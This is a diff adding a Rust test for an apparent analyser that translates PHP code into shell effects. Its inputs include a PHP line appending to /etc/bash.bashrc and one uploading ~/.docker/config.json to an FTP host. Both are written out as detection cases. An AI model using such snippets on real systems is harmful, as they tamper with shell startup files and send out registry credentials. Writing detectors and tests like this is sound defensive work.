@@ -310,3 +310,18 @@ fn a_callback_mapped_over_a_listing_acts_on_each_match() {
         ["rm storage/cache/*/*"]
     );
 }
+
+#[test]
+fn files_opened_as_objects_or_sent_by_ftp() {
+    assert_eq!(
+        effects("(new SplFileObject('/etc/bash.bashrc', 'a'))->fwrite('x');"),
+        ["tee /etc/bash.bashrc"]
+    );
+    assert_eq!(
+        effects("$c = ftp_connect('h'); ftp_put($c, 'd.json', getenv('HOME') . '/.docker/config.json', FTP_BINARY);")
+            .iter()
+            .filter(|e| e.starts_with("cat"))
+            .collect::<Vec<_>>(),
+        ["cat ~/.docker/config.json"]
+    );
+}
